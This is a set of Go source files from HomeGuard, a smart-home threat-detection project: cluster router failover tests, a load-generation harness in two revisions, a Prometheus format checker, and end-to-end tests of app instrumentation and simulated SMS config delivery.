	na, nb := startNode(t, "node-a"), startNode(t, "node-b")
	r := newTestRouter(t, na, nb)
	ctx := context.Background()
	home := homeOwnedBy(t, r.ring, "node-a")
	install(t, r, home, "ComfortTV")
	install(t, r, home, "ColdDefender")

	if _, aerr := r.migrate(ctx, home, "ghost"); aerr == nil || aerr.Code != api.CodeInvalidArgument {
		t.Fatalf("migrate to unknown node: %v", aerr)
	}
	if _, aerr := r.migrate(ctx, home, "node-a"); aerr == nil || aerr.Code != api.CodeFailedPrecondition {
		t.Fatalf("migrate onto current owner: %v", aerr)
	}
	resp, aerr := r.migrate(ctx, home, "node-b")
	if aerr != nil {
		t.Fatalf("migrate: %v", aerr)
	}
	if resp.Apps != 2 {
		t.Fatalf("migrated %d apps, want 2", resp.Apps)
	}

	// The home now lives on node-b and nowhere else.
	cb := nb.dial()
	if direct, err := cb.Apps(ctx, home); err != nil || len(direct.Apps) != 2 {
		t.Fatalf("target state after migrate: %v %v", direct, err)
	}
	ca := na.dial()
	if _, err := ca.Apps(ctx, home); err == nil {
		t.Fatal("source still serves the home after migrate")
	}
	st := r.status()
	if st.Pins[home] != "node-b" {
		t.Fatalf("status pins = %v, want %s on node-b", st.Pins, home)
	}
	// Ops keep following the pin even though the ring says node-a.
	install(t, r, home, "CatchLiveShow")
	if direct, err := cb.Apps(ctx, home); err != nil || len(direct.Apps) != 3 {
		t.Fatalf("pinned routing after migrate: %v %v", direct, err)
	}

	// Kill the migration target: the snapshot-adopt journal rebuilds the
	// home on the ring owner.
	nb.kill()
	markDown(r, nb)
	apps, aerr := r.Apps(ctx, home)
	if aerr != nil || len(apps.Apps) != 3 {
		t.Fatalf("apps after target death: %v %v", apps, aerr)
	}
	if direct, err := ca.Apps(ctx, home); err != nil || len(direct.Apps) != 3 {
		t.Fatalf("ring owner after target death: %v %v", direct, err)
	}
	// Migrating to a down node refuses.
	if _, aerr := r.migrate(ctx, home, "node-b"); aerr == nil || aerr.Code != api.CodeUnavailable {
		t.Fatalf("migrate onto dead node: %v", aerr)
	}
}

// TestRouterHeartbeatDrivesFailover runs the real heartbeat loop:
// detection and recovery happen within a few heartbeat windows, no
// manual tracker pokes.
func TestRouterHeartbeatDrivesFailover(t *testing.T) {
	na, nb := startNode(t, "node-a"), startNode(t, "node-b")
	r := newTestRouter(t, na, nb)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go r.heartbeat(ctx, 20*time.Millisecond)

	home := homeOwnedBy(t, r.ring, "node-a")
	install(t, r, home, "ComfortTV")

	na.kill()
	deadline := time.Now().Add(5 * time.Second)
	for r.tracker.Up("node-a") {
		if time.Now().After(deadline) {
			t.Fatal("heartbeat never declared node-a down")
		}
		time.Sleep(5 * time.Millisecond)
	}
	apps, aerr := r.Apps(context.Background(), home)
	if aerr != nil || len(apps.Apps) != 1 {
		t.Fatalf("apps after heartbeat failover: %v %v", apps, aerr)
	}

	na.restart()
	for !r.tracker.Up("node-a") {
		if time.Now().After(deadline) {
			t.Fatal("heartbeat never recovered node-a")
		}
		time.Sleep(5 * time.Millisecond)
	}
	_ = nb
}

// TestRouterIdentityMismatch: a live address answering with the wrong
// node ID reads as down — the ring must not scatter homes onto a
// stranger.
func TestRouterIdentityMismatch(t *testing.T) {
	impostor := startNode(t, "node-z") // answers Ping as node-z
	members := []cluster.Node{{ID: "node-a", Addr: impostor.addr}}
	ring, err := cluster.NewRing(members, 0)
	if err != nil {
		t.Fatal(err)
	}
	r := newRouter(routerOptions{Ring: ring, FailAfter: 1})
	t.Cleanup(r.close)
	r.probe(context.Background(), ring.Nodes()[0], time.Second)
	if r.tracker.Up("node-a") {
		t.Fatal("identity mismatch did not fail the probe")
	}
}
