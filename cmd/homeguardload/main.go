// Command homeguardload is the load-generation harness for the
// HomeGuard RPC edge: it drives cmd/homeguardd's framed RPC listener
// with a configurable install-storm mix and prints per-operation
// latency histograms, establishing the measured p99 SLO recorded in
// BENCH_pr7.json.
//
// Usage:
//
//	homeguardload [-addr 127.0.0.1:8081] [-duration 10s] [-workers 4]
//	              [-mix install=8,reconfigure=1,threats=1]
//	              [-deadline 5s] [-apps 12]
//	              [-max-p99-ms 0] [-json out.json]
//
// Each worker owns one RPC connection and a private sequence of homes:
// it installs the corpus catalog app by app into its current home
// (interleaving reconfigures and threat reads per the mix), then moves
// to a fresh home, so the storm exercises both the cold path (first
// install of each distinct app fleet-wide) and the warm path (every
// later install hits the shared extraction cache and pair-verdict
// cache — the fleet steady state the SLO is about).
//
// The mix is weights, not a schedule: each operation is chosen with
// probability weight/total. Reconfigure and threats operations target
// the worker's current home and an already-installed app, so every
// request is well-formed; error responses (by envelope code) are
// counted and reported separately.
//
// -max-p99-ms, when positive, makes the harness exit nonzero if the
// install p99 exceeds the gate — CI boots the daemon, runs a short
// storm, and enforces the published SLO with it. -json writes the
// machine-readable summary the gate and BENCH_pr7.json are built from.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"log"
	"math/rand"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/corpus"
	"homeguard/internal/obs"
	"homeguard/internal/rpc"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8081", "RPC address of a running homeguardd")
	duration := flag.Duration("duration", 10*time.Second, "storm duration")
	workers := flag.Int("workers", 4, "concurrent workers (one RPC connection each)")
	mixSpec := flag.String("mix", "install=8,reconfigure=1,threats=1",
		"operation weights: install=N,reconfigure=N,threats=N")
	deadline := flag.Duration("deadline", 5*time.Second, "per-RPC deadline")
	nApps := flag.Int("apps", 12, "corpus apps per home before moving to a fresh home")
	maxP99Ms := flag.Float64("max-p99-ms", 0,
		"fail (exit 1) if install p99 exceeds this many milliseconds (0 = no gate)")
	jsonOut := flag.String("json", "", "write the JSON summary to this file")
	flag.Parse()

	mix, err := parseMix(*mixSpec)
	if err != nil {
		log.Fatalf("homeguardload: %v", err)
	}
	apps := corpus.All()
	if *nApps < len(apps) {
		apps = apps[:*nApps]
	}
	if len(apps) < 2 {
		log.Fatal("homeguardload: need at least 2 corpus apps")
	}

	stats := newStats()
	var wg sync.WaitGroup
	stop := time.Now().Add(*duration)
	for w := 0; w < *workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			if err := runWorker(w, *addr, apps, mix, *deadline, stop, stats); err != nil {
				log.Printf("homeguardload: worker %d: %v", w, err)
			}
		}(w)
	}
	wg.Wait()

	summary := stats.summarize(*duration)
	printSummary(summary)
	if *jsonOut != "" {
		b, err := json.MarshalIndent(summary, "", "  ")
		if err != nil {
			log.Fatalf("homeguardload: marshal summary: %v", err)
		}
		if err := os.WriteFile(*jsonOut, append(b, '\n'), 0o644); err != nil {
			log.Fatalf("homeguardload: write %s: %v", *jsonOut, err)
		}
	}
	if *maxP99Ms > 0 {
		in, ok := summary.Ops["install"]
		if !ok || in.N == 0 {
			log.Fatal("homeguardload: p99 gate set but no installs completed")
		}
		if in.P99Ms > *maxP99Ms {
			log.Fatalf("homeguardload: install p99 %.2fms exceeds the %.2fms gate", in.P99Ms, *maxP99Ms)
		}
		fmt.Printf("p99 gate ok: install p99 %.2fms <= %.2fms\n", in.P99Ms, *maxP99Ms)
	}
}

// opMix is the weighted operation mix.
type opMix struct {
	names   []string
	weights []int
	total   int
}

func parseMix(spec string) (*opMix, error) {
	m := &opMix{}
	for _, part := range strings.Split(spec, ",") {
		name, val, ok := strings.Cut(strings.TrimSpace(part), "=")
		if !ok {
			return nil, fmt.Errorf("bad mix entry %q (want op=weight)", part)
		}
		switch name {
		case "install", "reconfigure", "threats":
		default:
			return nil, fmt.Errorf("unknown mix op %q", name)
		}
		w, err := strconv.Atoi(val)
		if err != nil || w < 0 {
			return nil, fmt.Errorf("bad mix weight %q", val)
		}
		m.names = append(m.names, name)
		m.weights = append(m.weights, w)
		m.total += w
	}
	if m.total == 0 {
		return nil, fmt.Errorf("mix %q has zero total weight", spec)
	}
	return m, nil
}

// pick draws one operation name by weight.
func (m *opMix) pick(rng *rand.Rand) string {
	n := rng.Intn(m.total)
	for i, w := range m.weights {
		if n < w {
			return m.names[i]
		}
		n -= w
	}
	return m.names[len(m.names)-1]
}

// runWorker drives one connection until the stop time.
func runWorker(id int, addr string, apps []corpus.App, mix *opMix, deadline time.Duration, stop time.Time, st *stats) error {
	client, err := rpc.DialTimeout(addr, 5*time.Second)
	if err != nil {
		return fmt.Errorf("dial %s: %w", addr, err)
	}
	defer client.Close()
	rng := rand.New(rand.NewSource(int64(id)*7919 + 1))

	homeSeq := 0
	installed := 0 // apps installed into the current home
	home := func() string { return fmt.Sprintf("load-w%d-h%d", id, homeSeq) }

	for time.Now().Before(stop) {
		op := mix.pick(rng)
		// Until something is installed, only installs are well-formed.
		if installed == 0 {
			op = "install"
		}
		ctx, cancel := context.WithTimeout(context.Background(), deadline)
		start := time.Now()
		var err error
		switch op {
		case "install":
			if installed == len(apps) {
				homeSeq++
				installed = 0
			}
			_, err = client.Install(ctx, &api.InstallRequest{
				Home: home(), Corpus: apps[installed].Name,
			})
			if err == nil {
				installed++
			}
		case "reconfigure":
			_, err = client.Reconfigure(ctx, &api.ReconfigureRequest{
				Home: home(), App: apps[rng.Intn(installed)].Name,
			})
		case "threats":
			_, err = client.Threats(ctx, &api.ThreatsRequest{Home: home()})
		}
		st.record(op, time.Since(start), err)
		cancel()
		if err != nil {
			var aerr *api.Error
			if !errors.As(err, &aerr) {
				return err // transport failure: stop this worker
			}
		}
	}
	return nil
}

// stats aggregates per-operation latency and error counts across
// workers.
type stats struct {
	mu    sync.Mutex
	hists map[string]*obs.Histogram
	errs  map[string]map[string]int // op → code → count
}

func newStats() *stats {
	return &stats{hists: map[string]*obs.Histogram{}, errs: map[string]map[string]int{}}
}

func (s *stats) record(op string, d time.Duration, err error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	h := s.hists[op]
	if h == nil {
		h = &obs.Histogram{}
		s.hists[op] = h
	}
	h.Observe(d)
	if err != nil {
		code := "TRANSPORT"
		var aerr *api.Error
		if errors.As(err, &aerr) {
			code = string(aerr.Code)
		}
		if s.errs[op] == nil {
			s.errs[op] = map[string]int{}
		}
		s.errs[op][code]++
	}
}

// OpSummary is one operation's aggregate outcome.
type OpSummary struct {
	N      uint64         `json:"n"`
	P50Ms  float64        `json:"p50Ms"`
	P90Ms  float64        `json:"p90Ms"`
	P99Ms  float64        `json:"p99Ms"`
	Errors map[string]int `json:"errors,omitempty"`
}

// Summary is the whole storm's machine-readable outcome.
type Summary struct {
	DurationSec float64              `json:"durationSec"`
	Ops         map[string]OpSummary `json:"ops"`
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000.0 }

func (s *stats) summarize(d time.Duration) Summary {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := Summary{DurationSec: d.Seconds(), Ops: map[string]OpSummary{}}
	for op, h := range s.hists {
		snap := h.Snapshot()
		out.Ops[op] = OpSummary{
			N:      snap.Count,
			P50Ms:  ms(h.Quantile(0.50)),
			P90Ms:  ms(h.Quantile(0.90)),
			P99Ms:  ms(h.Quantile(0.99)),
			Errors: s.errs[op],
		}
	}
	return out
}

func printSummary(sum Summary) {
	ops := make([]string, 0, len(sum.Ops))
	for op := range sum.Ops {
		ops = append(ops, op)
	}
	sort.Strings(ops)
	var total uint64
	for _, op := range ops {
		o := sum.Ops[op]
		total += o.N
		fmt.Printf("%-12s n=%-7d p50=%8.2fms p90=%8.2fms p99=%8.2fms", op, o.N, o.P50Ms, o.P90Ms, o.P99Ms)
		if len(o.Errors) > 0 {
			fmt.Printf("  errors=%v", o.Errors)
		}
		fmt.Println()
	}
	fmt.Printf("%-12s n=%-7d (%.0f req/s over %.1fs)\n",
		"total", total, float64(total)/sum.DurationSec, sum.DurationSec)
}
