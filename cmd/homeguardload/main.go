// Command homeguardload is the load-generation harness for the
// HomeGuard RPC edge: it drives cmd/homeguardd's framed RPC listener
// with a configurable install-storm mix and prints per-operation
// latency histograms, establishing the measured p99 SLO recorded in
// BENCH_pr7.json.
//
// Usage:
//
//	homeguardload [-addr 127.0.0.1:8081] [-duration 10s] [-workers 4]
//	              [-target id.or.addr:8081 -target other:8081]
//	              [-mix install=8,reconfigure=1,threats=1]
//	              [-deadline 5s] [-apps 12] [-retries 0]
//	              [-max-p99-ms 0] [-json out.json]
//
// -target (repeatable, or comma-separated) storms several endpoints at
// once — a multi-node fleet directly, or a pool of gateways. Workers
// are assigned targets round-robin and rotate to the next target when
// their connection dies, so the storm keeps flowing while one node is
// down. With no -target, -addr is the single target.
//
// -retries applies the cluster retry policy (jittered exponential
// backoff, UNAVAILABLE always retryable, DEADLINE_EXCEEDED only for
// reads) to every operation; the summary reports operations that
// needed retries and operations that ultimately failed as separate
// counts, so a chaos run can assert "errors were retried away" rather
// than eyeballing totals.
//
// Each worker owns one RPC connection and a private sequence of homes:
// it installs the corpus catalog app by app into its current home
// (interleaving reconfigures and threat reads per the mix), then moves
// to a fresh home, so the storm exercises both the cold path (first
// install of each distinct app fleet-wide) and the warm path (every
// later install hits the shared extraction cache and pair-verdict
// cache — the fleet steady state the SLO is about).
//
// The mix is weights, not a schedule: each operation is chosen with
// probability weight/total. Reconfigure and threats operations target
// the worker's current home and an already-installed app, so every
// request is well-formed; error responses (by envelope code) are
// counted and reported separately.
//
// -max-p99-ms, when positive, makes the harness exit nonzero if the
// install p99 exceeds the gate — CI boots the daemon, runs a short
// storm, and enforces the published SLO with it. -json writes the
// machine-readable summary the gate and BENCH_pr7.json are built from.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"log"
	"math/rand"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/cluster"
	"homeguard/internal/corpus"
	"homeguard/internal/obs"
	"homeguard/internal/rpc"
)

// targetList collects repeated (or comma-separated) -target values.
type targetList []string

func (t *targetList) String() string { return strings.Join(*t, ",") }
func (t *targetList) Set(v string) error {
	for _, part := range strings.Split(v, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			return fmt.Errorf("empty target in %q", v)
		}
		*t = append(*t, part)
	}
	return nil
}

func main() {
	addr := flag.String("addr", "127.0.0.1:8081", "RPC address of a running homeguardd")
	var targets targetList
	flag.Var(&targets, "target",
		"RPC endpoint to storm; repeat or comma-separate for a multi-node fleet (overrides -addr)")
	duration := flag.Duration("duration", 10*time.Second, "storm duration")
	workers := flag.Int("workers", 4, "concurrent workers (one RPC connection each)")
	mixSpec := flag.String("mix", "install=8,reconfigure=1,threats=1",
		"operation weights: install=N,reconfigure=N,threats=N")
	deadline := flag.Duration("deadline", 5*time.Second, "per-RPC deadline")
	nApps := flag.Int("apps", 12, "corpus apps per home before moving to a fresh home")
	retries := flag.Int("retries", 0,
		"max retries per operation under the cluster retry policy (0 = fail fast)")
	maxP99Ms := flag.Float64("max-p99-ms", 0,
		"fail (exit 1) if install p99 exceeds this many milliseconds (0 = no gate)")
	jsonOut := flag.String("json", "", "write the JSON summary to this file")
	flag.Parse()

	if len(targets) == 0 {
		targets = targetList{*addr}
	}
	mix, err := parseMix(*mixSpec)
	if err != nil {
		log.Fatalf("homeguardload: %v", err)
	}
	apps := corpus.All()
	if *nApps < len(apps) {
		apps = apps[:*nApps]
	}
	if len(apps) < 2 {
		log.Fatal("homeguardload: need at least 2 corpus apps")
	}

	stats := newStats()
	var wg sync.WaitGroup
	stop := time.Now().Add(*duration)
	for w := 0; w < *workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			if err := runWorker(w, targets, apps, mix, *deadline, *retries, stop, stats); err != nil {
				log.Printf("homeguardload: worker %d: %v", w, err)
			}
		}(w)
	}
	wg.Wait()

	summary := stats.summarize(*duration)
	printSummary(summary)
	if *jsonOut != "" {
		b, err := json.MarshalIndent(summary, "", "  ")
		if err != nil {
			log.Fatalf("homeguardload: marshal summary: %v", err)
		}
		if err := os.WriteFile(*jsonOut, append(b, '\n'), 0o644); err != nil {
			log.Fatalf("homeguardload: write %s: %v", *jsonOut, err)
		}
	}
	if *maxP99Ms > 0 {
		in, ok := summary.Ops["install"]
		if !ok || in.N == 0 {
			log.Fatal("homeguardload: p99 gate set but no installs completed")
		}
		if in.P99Ms > *maxP99Ms {
			log.Fatalf("homeguardload: install p99 %.2fms exceeds the %.2fms gate", in.P99Ms, *maxP99Ms)
		}
		fmt.Printf("p99 gate ok: install p99 %.2fms <= %.2fms\n", in.P99Ms, *maxP99Ms)
	}
}

// opMix is the weighted operation mix.
type opMix struct {
	names   []string
	weights []int
	total   int
}

func parseMix(spec string) (*opMix, error) {
	m := &opMix{}
	for _, part := range strings.Split(spec, ",") {
		name, val, ok := strings.Cut(strings.TrimSpace(part), "=")
		if !ok {
			return nil, fmt.Errorf("bad mix entry %q (want op=weight)", part)
		}
		switch name {
		case "install", "reconfigure", "threats":
		default:
			return nil, fmt.Errorf("unknown mix op %q", name)
		}
		w, err := strconv.Atoi(val)
		if err != nil || w < 0 {
			return nil, fmt.Errorf("bad mix weight %q", val)
		}
		m.names = append(m.names, name)
		m.weights = append(m.weights, w)
		m.total += w
	}
	if m.total == 0 {
		return nil, fmt.Errorf("mix %q has zero total weight", spec)
	}
	return m, nil
}

// pick draws one operation name by weight.
func (m *opMix) pick(rng *rand.Rand) string {
	n := rng.Intn(m.total)
	for i, w := range m.weights {
		if n < w {
			return m.names[i]
		}
		n -= w
	}
	return m.names[len(m.names)-1]
}

// workerConn lazily dials, rotating through the target list whenever
// the current connection dies, so a storm survives any one endpoint
// going away.
type workerConn struct {
	targets []string
	next    int
	client  *rpc.Client
}

func (c *workerConn) get() (*rpc.Client, error) {
	if c.client != nil && c.client.Err() == nil {
		return c.client, nil
	}
	if c.client != nil {
		c.client.Close()
		c.client = nil
	}
	addr := c.targets[c.next%len(c.targets)]
	c.next++
	cl, err := rpc.DialTimeout(addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	c.client = cl
	return cl, nil
}

func (c *workerConn) close() {
	if c.client != nil {
		c.client.Close()
	}
}

// runWorker drives one connection until the stop time, retrying each
// operation under the cluster policy when -retries allows it.
func runWorker(id int, targets []string, apps []corpus.App, mix *opMix, deadline time.Duration, retries int, stop time.Time, st *stats) error {
	conn := &workerConn{targets: targets, next: id} // stagger initial assignment
	defer conn.close()
	retryer := cluster.NewRetryer(cluster.RetryOptions{Attempts: retries + 1})
	rng := rand.New(rand.NewSource(int64(id)*7919 + 1))

	homeSeq := 0
	installed := 0 // apps installed into the current home
	home := func() string { return fmt.Sprintf("load-w%d-h%d", id, homeSeq) }

	for time.Now().Before(stop) {
		op := mix.pick(rng)
		// Until something is installed, only installs are well-formed.
		if installed == 0 {
			op = "install"
		}
		if op == "install" && installed == len(apps) {
			homeSeq++
			installed = 0
		}
		readOnly := op == "threats"
		start := time.Now()
		nRetries, err := retryer.Do(context.Background(), readOnly, func(int) error {
			ctx, cancel := context.WithTimeout(context.Background(), deadline)
			defer cancel()
			client, err := conn.get()
			if err != nil {
				return err
			}
			switch op {
			case "install":
				_, err = client.Install(ctx, &api.InstallRequest{
					Home: home(), Corpus: apps[installed].Name,
				})
			case "reconfigure":
				_, err = client.Reconfigure(ctx, &api.ReconfigureRequest{
					Home: home(), App: apps[rng.Intn(installed)].Name,
				})
			case "threats":
				_, err = client.Threats(ctx, &api.ThreatsRequest{Home: home()})
			}
			return err
		})
		st.record(op, time.Since(start), err, nRetries)
		if err == nil && op == "install" {
			installed++
		}
	}
	return nil
}

// stats aggregates per-operation latency and error counts across
// workers.
type stats struct {
	mu      sync.Mutex
	hists   map[string]*obs.Histogram
	errs    map[string]map[string]int // op → code → count (terminal failures)
	retried map[string]int            // op → ops that needed >= 1 retry but may have succeeded
}

func newStats() *stats {
	return &stats{
		hists:   map[string]*obs.Histogram{},
		errs:    map[string]map[string]int{},
		retried: map[string]int{},
	}
}

func (s *stats) record(op string, d time.Duration, err error, retries int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	h := s.hists[op]
	if h == nil {
		h = &obs.Histogram{}
		s.hists[op] = h
	}
	h.Observe(d)
	if retries > 0 {
		s.retried[op]++
	}
	if err != nil {
		code := "TRANSPORT"
		var aerr *api.Error
		if errors.As(err, &aerr) {
			code = string(aerr.Code)
		}
		if s.errs[op] == nil {
			s.errs[op] = map[string]int{}
		}
		s.errs[op][code]++
	}
}

// OpSummary is one operation's aggregate outcome. Retried counts
// operations that needed at least one retry (they may still have
// succeeded); Failed counts operations whose final attempt errored —
// the two are deliberately separate so a failover run can distinguish
// "the retry layer absorbed the burst" from actual loss of service.
type OpSummary struct {
	N       uint64         `json:"n"`
	P50Ms   float64        `json:"p50Ms"`
	P90Ms   float64        `json:"p90Ms"`
	P99Ms   float64        `json:"p99Ms"`
	Retried int            `json:"retried,omitempty"`
	Failed  int            `json:"failed,omitempty"`
	Errors  map[string]int `json:"errors,omitempty"`
}

// Summary is the whole storm's machine-readable outcome.
type Summary struct {
	DurationSec float64              `json:"durationSec"`
	Ops         map[string]OpSummary `json:"ops"`
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000.0 }

func (s *stats) summarize(d time.Duration) Summary {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := Summary{DurationSec: d.Seconds(), Ops: map[string]OpSummary{}}
	for op, h := range s.hists {
		snap := h.Snapshot()
		failed := 0
		for _, n := range s.errs[op] {
			failed += n
		}
		out.Ops[op] = OpSummary{
			N:       snap.Count,
			P50Ms:   ms(h.Quantile(0.50)),
			P90Ms:   ms(h.Quantile(0.90)),
			P99Ms:   ms(h.Quantile(0.99)),
			Retried: s.retried[op],
			Failed:  failed,
			Errors:  s.errs[op],
		}
	}
	return out
}

func printSummary(sum Summary) {
	ops := make([]string, 0, len(sum.Ops))
	for op := range sum.Ops {
		ops = append(ops, op)
	}
	sort.Strings(ops)
	var total uint64
	for _, op := range ops {
		o := sum.Ops[op]
		total += o.N
		fmt.Printf("%-12s n=%-7d p50=%8.2fms p90=%8.2fms p99=%8.2fms", op, o.N, o.P50Ms, o.P90Ms, o.P99Ms)
		if o.Retried > 0 {
			fmt.Printf("  retried=%d", o.Retried)
		}
		if o.Failed > 0 {
			fmt.Printf("  failed=%d errors=%v", o.Failed, o.Errors)
		}
		fmt.Println()
	}
	fmt.Printf("%-12s n=%-7d (%.0f req/s over %.1fs)\n",
		"total", total, float64(total)/sum.DurationSec, sum.DurationSec)
}
