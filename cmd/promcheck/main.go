// Command promcheck validates Prometheus text exposition format (0.0.4).
//
// Usage:
//
//	promcheck [-min-samples N] [url]
//
// With a url argument it GETs the endpoint (normally the daemon's
// /metrics?format=prometheus) and parses the body; with no argument it
// parses stdin. Exit status 0 means the input is well-formed exposition
// with at least -min-samples samples; any malformed line — bad metric or
// label name, broken escape, non-cumulative histogram buckets, a sample
// preceding its TYPE — prints the parse error and exits 1.
//
// CI runs it against a live daemon so a collector change that emits a
// malformed family is caught before a real scraper silently drops it.
package main

import (
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"time"

	"homeguard/internal/obs"
)

func main() {
	minSamples := flag.Int("min-samples", 1,
		"fail unless the exposition carries at least this many samples")
	flag.Parse()

	var in io.Reader = os.Stdin
	src := "stdin"
	if flag.NArg() > 1 {
		fmt.Fprintln(os.Stderr, "promcheck: at most one url argument")
		os.Exit(2)
	}
	if flag.NArg() == 1 {
		src = flag.Arg(0)
		client := &http.Client{Timeout: 30 * time.Second}
		resp, err := client.Get(src)
		if err != nil {
			fmt.Fprintf(os.Stderr, "promcheck: %v\n", err)
			os.Exit(1)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			fmt.Fprintf(os.Stderr, "promcheck: %s: status %s\n", src, resp.Status)
			os.Exit(1)
		}
		in = resp.Body
	}

	samples, err := obs.ParseExposition(in)
	if err != nil {
		fmt.Fprintf(os.Stderr, "promcheck: %s: %v\n", src, err)
		os.Exit(1)
	}
	if len(samples) < *minSamples {
		fmt.Fprintf(os.Stderr, "promcheck: %s: %d samples, want >= %d\n", src, len(samples), *minSamples)
		os.Exit(1)
	}
	fmt.Printf("promcheck: %s: %d samples OK\n", src, len(samples))
}
