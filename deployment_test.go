package homeguard

// End-to-end deployment-path test (Sec. VII): instrument an app, run the
// instrumented Groovy in the platform simulator so its updated() lifecycle
// collects the real configuration, ship the URI over the simulated SMS
// channel, parse it on the "phone", build the detection config from it,
// and detect the Fig. 3 race — the full HomeGuard pipeline with no step
// mocked out.

import (
	"strings"
	"testing"

	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/envmodel"
	"homeguard/internal/instrument"
	"homeguard/internal/interp"
	"homeguard/internal/messaging"
	"homeguard/internal/platform"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

func TestDeploymentPathEndToEnd(t *testing.T) {
	comfort, _ := corpus.Get("ComfortTV")
	cold, _ := corpus.Get("ColdDefender")

	// 1. Instrument both apps (the backend's automatic rewrite).
	instComfort, err := instrument.Instrument(comfort.Source)
	if err != nil {
		t.Fatal(err)
	}
	instCold, err := instrument.Instrument(cold.Source)
	if err != nil {
		t.Fatal(err)
	}

	// 2. Install the instrumented apps in the simulator and run updated()
	// — the inserted code collects config and sends the URI via SMS.
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "dev-tv", Name: "tv",
		Capabilities: []string{"switch"}, Type: envmodel.TV})
	h.AddDevice(&platform.Device{ID: "dev-window", Name: "window opener",
		Capabilities: []string{"switch"}, Type: envmodel.WindowOpener})
	h.AddDevice(&platform.Device{ID: "dev-temp", Name: "temp",
		Capabilities: []string{"temperatureMeasurement"}})

	appComfort, err := interp.Install(h, instComfort,
		interp.NewConfig().
			Bind("tv1", "dev-tv").Bind("tSensor", "dev-temp").Bind("window1", "dev-window").
			Set("threshold1", 30).Set("patchedphone", "555-0100"))
	if err != nil {
		t.Fatal(err)
	}
	appComfort.Update() // installation triggers updated() → collectConfigInfo

	appCold, err := interp.Install(h, instCold,
		interp.NewConfig().
			Bind("tv1", "dev-tv").Bind("window1", "dev-window").
			Set("weather", "rainy").Set("patchedphone", "555-0100"))
	if err != nil {
		t.Fatal(err)
	}
	appCold.Update()

	if len(h.Messages) < 2 {
		t.Fatalf("expected 2 config SMS messages, got %v", h.Messages)
	}

	// 3. Relay the URIs through the simulated SMS carrier to the frontend
	// inbox (555-0100 is the HomeGuard phone).
	inbox := &messaging.Inbox{}
	sms := messaging.NewSMS("555-0100", inbox, 99)
	for _, m := range h.Messages {
		payload := m[strings.Index(m, ": ")+2:]
		if _, err := sms.Send(payload); err != nil {
			t.Fatal(err)
		}
	}

	// 4. The frontend parses each URI and builds the detection config.
	d := detect.New(detect.Options{})
	var lastThreats []detect.Threat
	for i, delivery := range inbox.Deliveries() {
		info, err := instrument.ParseConfigURI(delivery.Payload)
		if err != nil {
			t.Fatalf("delivery %d: %v (payload %q)", i, err, delivery.Payload)
		}
		src := comfort.Source
		if info.AppName == "ColdDefender" {
			src = cold.Source
		}
		res, err := symexec.Extract(src, "")
		if err != nil {
			t.Fatal(err)
		}
		info.Classify(res.App)
		cfg := detect.NewConfig()
		for in, id := range info.Devices {
			cfg.Devices[in] = id
		}
		for in, v := range info.Values {
			if n, ok := parseInt(v); ok {
				cfg.Values[in] = rule.IntVal(n)
			} else if v != "null" {
				cfg.Values[in] = rule.StrVal(v)
			}
		}
		cfg.DeviceTypes["window1"] = envmodel.WindowOpener
		lastThreats = d.Install(detect.NewInstalledApp(res, cfg))
	}

	// 5. The second install reports the Fig. 3 race with the real device
	// IDs collected from inside the running apps.
	var ar *detect.Threat
	for i := range lastThreats {
		if lastThreats[i].Kind == detect.ActuatorRace {
			ar = &lastThreats[i]
		}
	}
	if ar == nil {
		t.Fatalf("race not detected; threats: %v", lastThreats)
	}
	if ar.Witness != nil {
		if v, ok := ar.Witness["dev-tv.switch"]; ok && v.Enum != "on" {
			t.Errorf("witness uses wrong device binding: %v", ar.Witness)
		}
	}

	// 6. Latency sanity (the Sec. VIII-C numbers flow from the channel).
	for _, dd := range inbox.Deliveries() {
		if dd.Latency <= 0 {
			t.Error("delivery without simulated latency")
		}
	}
}

func parseInt(s string) (int64, bool) {
	var n int64
	neg := false
	if s == "" {
		return 0, false
	}
	for i, c := range s {
		if i == 0 && c == '-' {
			neg = true
			continue
		}
		if c < '0' || c > '9' {
			return 0, false
		}
		n = n*10 + int64(c-'0')
	}
	if neg {
		n = -n
	}
	return n, true
}

// TestBackwardCompatibility covers Sec. VIII-D-3: users reinstall the
// instrumented version of an already-installed app without changing its
// configuration; updated() fires and the config flows to HomeGuard.
func TestBackwardCompatibility(t *testing.T) {
	night, _ := corpus.Get("NightCare")
	inst, err := instrument.Instrument(night.Source)
	if err != nil {
		t.Fatal(err)
	}
	h := platform.NewHome(2)
	h.AddDevice(&platform.Device{ID: "dev-lamp", Name: "floor lamp",
		Capabilities: []string{"switch"}, Type: envmodel.LightDev})
	app, err := interp.Install(h, inst,
		interp.NewConfig().Bind("lamp1", "dev-lamp").Set("patchedphone", "555"))
	if err != nil {
		t.Fatal(err)
	}
	app.Update()
	if len(h.Messages) == 0 {
		t.Fatal("reinstall should emit the config URI")
	}
	payload := h.Messages[len(h.Messages)-1]
	payload = payload[strings.Index(payload, ": ")+2:]
	info, err := instrument.ParseConfigURI(payload)
	if err != nil {
		t.Fatal(err)
	}
	if info.AppName != "NightCare" {
		t.Errorf("app name = %q", info.AppName)
	}
	res, _ := symexec.Extract(night.Source, "")
	info.Classify(res.App)
	if info.Devices["lamp1"] != "dev-lamp" {
		t.Errorf("device binding = %v", info.Devices)
	}
	// The app still works after instrumentation: lamp turns off after the
	// night delay.
